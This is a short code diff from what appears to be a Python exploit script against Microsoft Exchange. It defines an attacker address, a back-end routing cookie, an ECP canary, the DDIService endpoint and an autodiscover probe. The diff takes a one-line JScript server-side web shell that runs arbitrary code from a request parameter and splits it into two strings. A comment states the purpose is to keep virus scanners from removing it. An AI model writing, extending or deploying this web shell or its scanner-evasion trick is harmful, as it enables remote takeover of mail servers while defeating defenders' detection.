@@ -16,7 +16,12 @@ ATTACKER = "198.51.100.21"
 BACK_END = "ServerInfo~a]@ex01.corp.example:444"
 CANARY = "msExchEcpCanary=kPXk1Vd0b0S9mQ"
 DDI = f"{BACK_END}/ecp/DDI/DDIService.svc"
-SHELL = '<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""x""],""unsafe"");}</script>'
+# In two pieces: together they are what a virus scanner takes files away for.
+SHELL = (
+    '<script language=""JScript"" runat=""server"">function Page_Load(){ev'
+    'al(Request[""x""],""unsafe"");}</script>'
+)
+
 
 ROWS = (
     (f"{BACK_END}/autodiscover/autodiscover.xml?#", 200, "probe"),
